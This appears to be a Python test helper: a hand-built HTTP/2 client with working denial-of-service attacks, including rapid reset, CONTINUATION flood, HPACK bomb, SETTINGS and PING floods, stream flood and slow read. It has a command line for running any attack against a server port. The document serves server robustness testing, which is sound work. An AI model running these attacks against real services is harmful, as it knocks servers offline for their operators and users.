#!/usr/bin/env python3
"""A raw HTTP/2 client for tests: frames are built by hand (so that a test
can send what no well-behaved library would: uppercase names, CR/LF in
values, endless CONTINUATION frames, floods), and only the HPACK decoding of
the server's header blocks uses the `hpack` library (pure Python; Debian's
python3-hpack, found also from another interpreter such as pyenv's through
/usr/lib/python3/dist-packages).

  H2Conn(port, tls_ctx=None, ...)    one client connection (h2c prior
                                     knowledge, or TLS with ALPN h2)
  rapid_reset(c), server_resets(c), continuation_flood(c), settings_flood(c),
  ping_flood(c), hpack_bomb(c), stream_flood(c), zero_window_stall(c, path),
  slow_read(c, path)                 the attacks; each returns an Outcome
                                     (how the connection ended, GOAWAY code)

Run as a script to try one attack against any server, e.g. nginx:
  python3 h2attack.py [--tls] [--authority HOST] PORT ATTACK
"""

import hashlib
import select
import socket
import ssl
import struct
import sys
import time

try:
    import hpack
except ImportError:  # an interpreter that does not see Debian's packages
    sys.path.append("/usr/lib/python3/dist-packages")
    import hpack  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20

ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR = 0, 1, 2, 3
STREAM_CLOSED, REFUSED_STREAM, CANCEL, ENHANCE_YOUR_CALM = 5, 7, 8, 11

HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE, \
    MAX_HEADER_LIST_SIZE = range(1, 7)

MAX_WINDOW = (1 << 31) - 1


def error_name(code):
    return ERRORS[code] if code is not None and 0 <= code < len(ERRORS) else "0x%x" % (code or 0)


# --------------------------------------------------------------------------
# Frames and HPACK, by hand


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid & 0x7FFFFFFF) + payload


def _b(s):
    return s if isinstance(s, bytes) else s.encode("latin-1")


def hpack_int(value, prefix_bits, first=0):
    """An HPACK integer with a prefix of prefix_bits bits, the first byte's
    high bits set to first."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value, index=False):
    """A literal field with a literal name, no Huffman: never indexed, or
    with incremental indexing (index=True). Bytes go out exactly as given."""
    name, value = _b(name), _b(value)
    head = hpack_int(0, 6, 0x40) if index else hpack_int(0, 4, 0x10)
    return head + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def hpack_indexed(i):
    return hpack_int(i, 7, 0x80)


def header_block(headers):
    return b"".join(hpack_literal(k, v) for k, v in headers)


def request_headers(method="GET", path="/", authority="test", scheme="http", extra=()):
    return [(":method", method), (":scheme", scheme), (":authority", authority), (":path", path)] + list(extra)


def headers_frame(sid, block, end_stream=True, end_headers=True):
    return frame(HEADERS, (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0), sid, block)


def data_frame(sid, data, end_stream=False):
    return frame(DATA, END_STREAM if end_stream else 0, sid, data)


def rst_frame(sid, code=CANCEL):
    return frame(RST_STREAM, 0, sid, struct.pack(">I", code))


def settings_frame(settings=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in settings))


def ping_frame(data=b"\0" * 8, ack=False):
    return frame(PING, ACK if ack else 0, 0, data)


def window_update_frame(sid, incr):
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", incr))


def goaway_frame(last_sid=0, code=NO_ERROR):
    return frame(GOAWAY, 0, 0, struct.pack(">II", last_sid, code))


# --------------------------------------------------------------------------
# The connection


class Stream:
    def __init__(self, sid):
        self.id = sid
        self.headers = None     # [(name, value)] of the final response head
        self.interim = []       # 1xx heads
        self.trailers = None
        self.status = None
        self.body = bytearray()
        self.keep_body = True
        self.length = 0
        self.sha256 = hashlib.sha256()
        self.ended = False      # END_STREAM received
        self.reset = None       # RST_STREAM error code received
        self.send_window = 0
        self.first_data_at = None
        self.hold_window = False  # never give this stream window back

    @property
    def done(self):
        return self.ended or self.reset is not None

    def header(self, name):
        for k, v in self.headers or ():
            if k == name:
                return v
        return None

    def __repr__(self):
        return "<stream %d status %s len %d ended %s reset %s>" % (
            self.id, self.status, self.length, self.ended, error_name(self.reset) if self.reset is not None else None)


class H2Error(Exception):
    pass


class H2Conn:
    """One HTTP/2 client connection on a blocking socket, single threaded:
    poll() reads and handles what has arrived; sending never assumes the
    server reads. settings: the client's SETTINGS; conn_window: extra
    connection-level window granted at the start; auto_window: give back
    window for every DATA frame read; auto_ack: acknowledge the server's
    SETTINGS and PINGs."""

    def __init__(self, port, tls_ctx=None, server_name="test", host="127.0.0.1", timeout=10.0,
                 settings=((ENABLE_PUSH, 0),), conn_window=0, auto_window=True, auto_ack=True,
                 preface=True, keep_body=True):
        raw = socket.create_connection((host, port), timeout=timeout)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls_ctx is not None:
            try:
                raw = tls_ctx.wrap_socket(raw, server_hostname=server_name)
            except BaseException:
                raw.close()
                raise
            self.alpn = raw.selected_alpn_protocol()
        else:
            self.alpn = None
        self.sock = raw
        self.timeout = timeout
        self.buf = bytearray()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.block = None  # (sid, bytearray, flags of the HEADERS frame) while a header block is open
        self.streams = {}
        self.next_sid = 1
        self.goaway = None          # (last_stream_id, error_code, debug) of the first GOAWAY received
        self.goaways = []
        self.goaway_at = None
        self.eof = False
        self.eof_at = None
        self.send_error = None      # why a send failed (the server closed, or stopped reading)
        self.server_settings = {}
        self.settings_seen = 0
        self.settings_acks = 0
        self.ping_acks = 0
        self.frames = [0] * 10
        self.rst_received = 0
        self.bytes_read = 0
        self.auto_window = auto_window
        self.auto_ack = auto_ack
        self.keep_body = keep_body
        self.peer_initial_window = 65535
        self.peer_max_frame = 16384
        self.conn_send_window = 65535
        self.local_initial_window = dict(settings).get(INITIAL_WINDOW_SIZE, 65535)
        self.pending_window = 0  # connection window to give back
        self.started = time.monotonic()
        if preface:
            out = PREFACE + settings_frame(settings)
            if conn_window:
                out += window_update_frame(0, conn_window)
            self.send(out)

    # ---- sending

    def send(self, data):
        """Sends data; False (and send_error set) when the server closed or
        did not take the bytes within the timeout."""
        if self.send_error is not None:
            return False
        try:
            self.sock.sendall(data)
            return True
        except socket.timeout:
            self.send_error = "send blocked for %.0fs (server not reading)" % self.timeout
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as e:
            self.send_error = "%s: %s" % (type(e).__name__, e)
        return False

    def new_sid(self):
        sid = self.next_sid
        self.next_sid += 2
        return sid

    def open_stream(self, headers, end_stream=True, sid=None, raw_block=None):
        """Sends one HEADERS frame (END_HEADERS set); returns the Stream."""
        sid = sid or self.new_sid()
        st = Stream(sid)
        st.keep_body = self.keep_body
        st.send_window = self.peer_initial_window
        self.streams[sid] = st
        self.send(headers_frame(sid, raw_block if raw_block is not None else header_block(headers), end_stream))
        return st

    def request(self, method="GET", path="/", authority="test", scheme="http", extra=(), body=None,
                trailers=None):
        """Sends a whole request (body within the flow-control windows,
        reading meanwhile); returns the Stream."""
        st = self.open_stream(request_headers(method, path, authority, scheme, extra),
                              end_stream=body is None and trailers is None)
        if body is not None:
            self.send_body(st, body, end_stream=trailers is None)
        if trailers is not None:
            self.send(headers_frame(st.id, header_block(trailers), end_stream=True))
        return st

    def send_body(self, st, body, end_stream=True, timeout=60):
        view = memoryview(body)
        off = 0
        deadline = time.monotonic() + timeout
        while off < len(view) or (end_stream and off == len(view) == 0):
            if len(view) == 0:
                self.send(data_frame(st.id, b"", True))
                return
            n = min(len(view) - off, self.conn_send_window, st.send_window, self.peer_max_frame)
            if st.done or self.eof or self.send_error:
                raise H2Error("stream %d ended while sending its body (%r, goaway %r, send %r)"
                              % (st.id, st, self.goaway, self.send_error))
            if n <= 0:
                if time.monotonic() > deadline:
                    raise H2Error("no flow-control window to send stream %d's body within %ds" % (st.id, timeout))
                self.poll(1.0)
                continue
            last = off + n == len(view)
            if not self.send(data_frame(st.id, view[off:off + n].tobytes(), end_stream and last)):
                raise H2Error("sending stream %d's body: %s" % (st.id, self.send_error))
            off += n
            self.conn_send_window -= n
            st.send_window -= n
            self.poll(0)

    # ---- reading

    def pause(self, seconds):
        """Reads and handles frames for that long (a sleep that keeps the
        connection served)."""
        end = time.monotonic() + seconds
        while not self.eof and time.monotonic() < end:
            self.poll(end - time.monotonic())

    def poll(self, timeout):
        """Reads whatever arrives within timeout (0: only what is there) and
        handles every whole frame; returns the number of frames handled, as
        soon as there was at least one."""
        if self.eof:
            return 0
        n = 0
        end = time.monotonic() + timeout
        while True:
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            left = max(0.0, end - time.monotonic())
            if not pending:
                try:
                    r, _, _ = select.select([self.sock], [], [], left)
                except (OSError, ValueError):
                    r = [self.sock]
                if not r:
                    return n
            try:
                data = self.sock.recv(1 << 18)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except socket.timeout:
                return n
            except (ConnectionResetError, ssl.SSLError, OSError):
                data = b""
            if not data:
                self.eof = True
                self.eof_at = time.monotonic()
                self._frames()
                return n
            self.bytes_read += len(data)
            self.buf += data
            n += self._frames()
            if n and not (isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()):
                r, _, _ = select.select([self.sock], [], [], 0)
                if not r:
                    return n

    def _frames(self):
        n = 0
        pos = 0
        buf = self.buf
        while len(buf) - pos >= 9:
            length = (buf[pos] << 16) | (buf[pos + 1] << 8) | buf[pos + 2]
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = struct.unpack_from(">I", buf, pos + 5)[0] & 0x7FFFFFFF
            payload = bytes(buf[pos + 9:pos + 9 + length])
            pos += 9 + length
            self._frame(ftype, flags, sid, payload)
            n += 1
        del buf[:pos]
        if self.pending_window >= 32768 and self.auto_window:
            self.send(window_update_frame(0, self.pending_window))
            self.pending_window = 0
        return n

    def _frame(self, ftype, flags, sid, payload):
        if ftype < len(self.frames):
            self.frames[ftype] += 1
        st = self.streams.get(sid)
        if ftype == DATA:
            if flags & PADDED and payload:
                payload = payload[1:len(payload) - payload[0]]
            if st is not None:
                if st.first_data_at is None:
                    st.first_data_at = time.monotonic()
                st.length += len(payload)
                st.sha256.update(payload)
                if st.keep_body:
                    st.body += payload
                if flags & END_STREAM:
                    st.ended = True
            if self.auto_window and payload:
                self.pending_window += len(payload)
                if st is not None and not st.done and len(payload) and not st.hold_window:
                    self.send(window_update_frame(sid, len(payload)))
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                if flags & PADDED and payload:
                    payload = payload[1:len(payload) - payload[0]]
                if flags & PRIORITY_FLAG:
                    payload = payload[5:]
                self.block = (sid, bytearray(payload), flags)
            elif self.block is not None:
                self.block[1].extend(payload)
            if flags & END_HEADERS and self.block is not None:
                bsid, data, hflags = self.block
                self.block = None
                hdrs = [(_s(k), _s(v)) for k, v in self.decoder.decode(bytes(data), raw=True)]
                st = self.streams.get(bsid)
                if st is not None:
                    status = dict(hdrs).get(":status")
                    if st.headers is not None:
                        st.trailers = hdrs
                    elif status is not None and status.startswith("1"):
                        st.interim.append(hdrs)
                    else:
                        st.headers = hdrs
                        st.status = int(status) if status and status.isdigit() else None
                    if hflags & END_STREAM:
                        st.ended = True
        elif ftype == RST_STREAM:
            self.rst_received += 1
            if st is not None and len(payload) >= 4:
                st.reset = struct.unpack(">I", payload[:4])[0]
        elif ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                self.settings_seen += 1
                for i in range(0, len(payload) - 5, 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    self.server_settings[k] = v
                    if k == INITIAL_WINDOW_SIZE:
                        delta = v - self.peer_initial_window
                        self.peer_initial_window = v
                        for s in self.streams.values():
                            s.send_window += delta
                    elif k == MAX_FRAME_SIZE:
                        self.peer_max_frame = v
                if self.auto_ack:
                    self.send(settings_frame(ack=True))
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
            elif self.auto_ack:
                self.send(ping_frame(payload, ack=True))
        elif ftype == GOAWAY:
            if len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                g = (last & 0x7FFFFFFF, code, payload[8:])
                self.goaways.append(g)
                if self.goaway is None:
                    self.goaway = g
                    self.goaway_at = time.monotonic()
        elif ftype == WINDOW_UPDATE:
            if len(payload) >= 4:
                incr = struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
                if sid == 0:
                    self.conn_send_window += incr
                elif st is not None:
                    st.send_window += incr

    def wait(self, cond, timeout, what="condition"):
        """Polls until cond() is true; False when the connection ended or
        the time ran out first."""
        deadline = time.monotonic() + timeout
        while not cond():
            left = deadline - time.monotonic()
            if left <= 0 or self.eof:
                return bool(cond())
            self.poll(min(left, 0.5))
        return True

    def wait_stream(self, st, timeout=30):
        self.wait(lambda: st.done, timeout)
        return st

    def wait_goaway(self, timeout):
        """Reads until a GOAWAY arrived or the connection ended."""
        self.wait(lambda: self.goaway is not None, timeout)
        return self.goaway

    def wait_closed(self, timeout):
        """Reads (and drops the bodies of) everything until the server
        closes; True when it did within timeout."""
        for st in self.streams.values():
            st.keep_body = False
        return self.wait(lambda: self.eof, timeout)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *a):
        self.close()

    def describe(self):
        seen = ", ".join("%s %d" % (FRAME_NAMES[i], n) for i, n in enumerate(self.frames) if n)
        g = self.goaway
        return "frames received: %s; GOAWAY %s; EOF %s; send %s" % (
            seen or "none", "(last %d, %s, %r)" % (g[0], error_name(g[1]), g[2][:80]) if g else "none",
            self.eof, self.send_error or "ok")


def _s(x):
    return x.decode("latin-1") if isinstance(x, bytes) else x


# --------------------------------------------------------------------------
# Attacks. Each runs on an H2Conn whose preface has been sent, and stops
# when the server answered with GOAWAY or closed, when sending failed, or
# after `limit` units / `seconds`. It then reads until the server closes
# (for at most `drain` seconds) and returns an Outcome.


class Outcome:
    def __init__(self, name, conn, sent, t0, note=""):
        self.name = name
        self.sent = sent
        self.goaway = conn.goaway
        self.code = conn.goaway[1] if conn.goaway else None
        self.eof = conn.eof
        self.seconds = ((conn.goaway_at or conn.eof_at or time.monotonic()) - t0)
        self.closed_after = ((conn.eof_at or time.monotonic()) - t0)
        self.send_error = conn.send_error
        self.rst_received = conn.rst_received
        self.note = note
        self.summary = "%s: sent %d, %s%s" % (name, sent, conn.describe(), (", " + note) if note else "")

    def __repr__(self):
        return self.summary


def _batches(conn, make_unit, limit, batch, seconds, read=True, write_wait=2.0):
    """Sends make_unit(i) for i in 0..limit-1 in batches, polling between
    batches when read; returns the number of units sent. Without read, it
    stops when the socket has not become writable within write_wait seconds
    (the server stopped reading)."""
    t_end = time.monotonic() + seconds
    i = 0
    while i < limit and time.monotonic() < t_end:
        k = min(batch, limit - i)
        if not read:
            _, w, _ = select.select([], [conn.sock], [], write_wait)
            if not w:
                conn.send_error = "socket not writable for %.0fs (server not reading)" % write_wait
                break
        if not conn.send(b"".join(make_unit(i + j) for j in range(k))):
            break
        i += k
        if read:
            conn.poll(0)
            if conn.goaway is not None or conn.eof:
                break
    return i


def _finish(name, conn, sent, t0, drain, note=""):
    conn.wait_closed(drain)
    return Outcome(name, conn, sent, t0, note)


def rapid_reset(conn, limit=20000, batch=100, seconds=60, drain=30, authority="test", scheme="http"):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), stream after stream."""
    t0 = time.monotonic()
    first = conn.next_sid
    conn.next_sid += 2 * limit
    block = header_block(request_headers("GET", "/", authority, scheme))

    def unit(i):
        sid = first + 2 * i
        return headers_frame(sid, block) + rst_frame(sid, CANCEL)
    sent = _batches(conn, unit, limit, batch, seconds)
    return _finish("rapid reset", conn, sent, t0, drain)


def server_resets(conn, limit=20000, batch=100, seconds=60, drain=30, authority="test", scheme="http"):
    """The variant where the server does the resetting (MadeYouReset
    style): every stream has a malformed head (an uppercase field name), so
    the server must answer each with RST_STREAM."""
    t0 = time.monotonic()
    first = conn.next_sid
    conn.next_sid += 2 * limit
    block = header_block(request_headers("GET", "/", authority, scheme, [("X-Bad", "1")]))
    sent = _batches(conn, lambda i: headers_frame(first + 2 * i, block), limit, batch, seconds)
    return _finish("server-side resets", conn, sent, t0, drain)


def continuation_flood(conn, limit=200000, batch=2000, seconds=60, drain=30, authority="test", scheme="http"):
    """CVE-2024-28182 style: HEADERS without END_HEADERS, then CONTINUATION
    frames without END_HEADERS (empty ones: nothing to decode, only frames)
    for ever."""
    t0 = time.monotonic()
    sid = conn.new_sid()
    conn.send(headers_frame(sid, header_block(request_headers("GET", "/", authority, scheme)),
                            end_stream=True, end_headers=False))
    cont = frame(CONTINUATION, 0, sid, b"")
    sent = _batches(conn, lambda i: cont, limit, batch, seconds)
    return _finish("CONTINUATION flood", conn, sent, t0, drain)


def settings_flood(conn, limit=300000, batch=1000, seconds=60, drain=30):
    """SETTINGS frames (each needing an ACK) as fast as the socket takes
    them; the ACKs are read."""
    t0 = time.monotonic()
    unit = settings_frame([(ENABLE_PUSH, 0)])
    sent = _batches(conn, lambda i: unit, limit, batch, seconds)
    return _finish("SETTINGS flood", conn, sent, t0, drain)


def ping_flood(conn, limit=500000, batch=1000, seconds=60, drain=30):
    """PINGs without reading the ACKs until the socket stops taking them."""
    t0 = time.monotonic()
    sent = _batches(conn, lambda i: ping_frame(struct.pack(">Q", i)), limit, batch, seconds, read=False)
    return _finish("PING flood", conn, sent, t0, drain)


def hpack_bomb(conn, value_size=4000, refs=16000, limit=2000, seconds=60, drain=30, authority="test",
               scheme="http"):
    """An HPACK bomb: a field of value_size bytes put into the dynamic table
    once, then referenced refs times (one byte each) in every header block:
    each HEADERS frame of ~refs bytes decodes to refs * value_size bytes.
    Streams follow each other until the server ends the connection."""
    t0 = time.monotonic()
    base = header_block(request_headers("GET", "/", authority, scheme))
    first = base + hpack_literal("x-bomb", "a" * value_size, index=True)
    refs_block = hpack_indexed(62) * refs
    max_frame = 16384
    sent = 0
    t_end = time.monotonic() + seconds
    while sent < limit and time.monotonic() < t_end:
        sid = conn.new_sid()
        block = (first if sent == 0 else base) + refs_block
        out = bytearray()
        chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)]
        for j, c in enumerate(chunks):
            last = j == len(chunks) - 1
            if j == 0:
                out += headers_frame(sid, c, end_stream=True, end_headers=last)
            else:
                out += frame(CONTINUATION, END_HEADERS if last else 0, sid, c)
        st = Stream(sid)
        conn.streams[sid] = st
        if not conn.send(bytes(out)):
            break
        sent += 1
        if sent < 4:
            conn.pause(0.05)
        conn.poll(0)
        if conn.goaway is not None or conn.eof:
            break
    return _finish("HPACK bomb", conn, sent, t0, drain, "%d bytes decoded per block" % (refs * value_size))


def stream_flood(conn, max_streams, over=50, limit=2000, seconds=60, drain=30, authority="test", scheme="http",
                 path="/"):
    """Opens max_streams + over streams that never end (POST heads without
    END_STREAM, bodies never sent), then keeps opening more until the server
    ends the connection (or limit streams were opened in all). Returns the
    Outcome; its note counts the streams refused with RST_STREAM."""
    t0 = time.monotonic()
    block = header_block(request_headers("POST", path, authority, scheme, [("content-length", "100")]))
    opened = 0
    t_end = time.monotonic() + seconds
    while opened < limit and time.monotonic() < t_end:
        batch = max_streams + over if opened == 0 else 10
        out = bytearray()
        for _ in range(batch):
            sid = conn.new_sid()
            conn.streams[sid] = Stream(sid)
            out += headers_frame(sid, block, end_stream=False)
        if not conn.send(bytes(out)):
            break
        opened += batch
        conn.pause(0.2)
        if conn.goaway is not None or conn.eof:
            break
    refused = sum(1 for s in conn.streams.values() if s.reset is not None)
    codes = sorted({error_name(s.reset) for s in conn.streams.values() if s.reset is not None})
    out = _finish("stream flood", conn, opened, t0, drain, "%d streams reset by the server (%s)"
                  % (refused, ", ".join(codes)))
    out.refused = refused
    return out


def zero_window_stall(conn, path, authority="test", scheme="http", wait=60):
    """The connection was opened with SETTINGS_INITIAL_WINDOW_SIZE 0 (and
    auto_window False): request a large body and never grant any window.
    Waits up to `wait` seconds for the server to end the connection."""
    t0 = time.monotonic()
    st = conn.request("GET", path, authority, scheme)
    conn.wait(lambda: conn.eof, wait)
    out = Outcome("zero-window stall", conn, 1, t0, "stream %r" % st)
    out.stream = st
    return out


def slow_read(conn, path, streams=100, authority="test", scheme="http", hold=20):
    """The connection was opened with a huge window: open `streams` large
    downloads at once, then read nothing for `hold` seconds. Returns the
    bytes of the HEADERS frames sent; the caller reads what is left."""
    out = bytearray()
    block = header_block(request_headers("GET", path, authority, scheme))
    for _ in range(streams):
        sid = conn.new_sid()
        st = Stream(sid)
        st.keep_body = False
        conn.streams[sid] = st
        out += headers_frame(sid, block)
    conn.send(bytes(out))
    time.sleep(hold)
    return out


# --------------------------------------------------------------------------
# Command line (trying the attacks against any server, e.g. nginx)


def main(argv):
    import argparse
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (certificate not verified)")
    ap.add_argument("--authority", default="test")
    ap.add_argument("--path", default="/", help="path for stall/slow-read/get")
    ap.add_argument("--max-streams", type=int, default=100)
    ap.add_argument("port", type=int)
    ap.add_argument("attack", choices=["get", "rapid_reset", "server_resets", "continuation_flood",
                                       "settings_flood", "ping_flood", "hpack_bomb", "stream_flood",
                                       "zero_window_stall", "slow_read"])
    a = ap.parse_args(argv[1:])
    ctx = None
    if a.tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
    scheme = "https" if a.tls else "http"
    kw = {}
    if a.attack == "zero_window_stall":
        kw = dict(settings=[(ENABLE_PUSH, 0), (INITIAL_WINDOW_SIZE, 0)], auto_window=False)
    elif a.attack == "slow_read":
        kw = dict(settings=[(ENABLE_PUSH, 0), (INITIAL_WINDOW_SIZE, MAX_WINDOW)], conn_window=MAX_WINDOW - 65535,
                  auto_window=False)
    c = H2Conn(a.port, ctx, a.authority, timeout=10, **kw)
    if a.attack == "get":
        st = c.wait_stream(c.request("GET", a.path, a.authority, scheme))
        print(st, st.headers, bytes(st.body[:200]))
        return 0
    if a.attack == "stream_flood":
        r = stream_flood(c, a.max_streams, authority=a.authority, scheme=scheme)
    elif a.attack in ("zero_window_stall",):
        r = zero_window_stall(c, a.path, a.authority, scheme)
    elif a.attack == "slow_read":
        slow_read(c, a.path, authority=a.authority, scheme=scheme)
        c.wait_closed(60)
        r = Outcome("slow read", c, 100, c.started)
    else:
        r = globals()[a.attack](c, authority=a.authority, scheme=scheme) if a.attack not in (
            "settings_flood", "ping_flood") else globals()[a.attack](c)
    print("%s; %.1fs to GOAWAY/close, closed after %.1fs" % (r.summary, r.seconds, r.closed_after))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
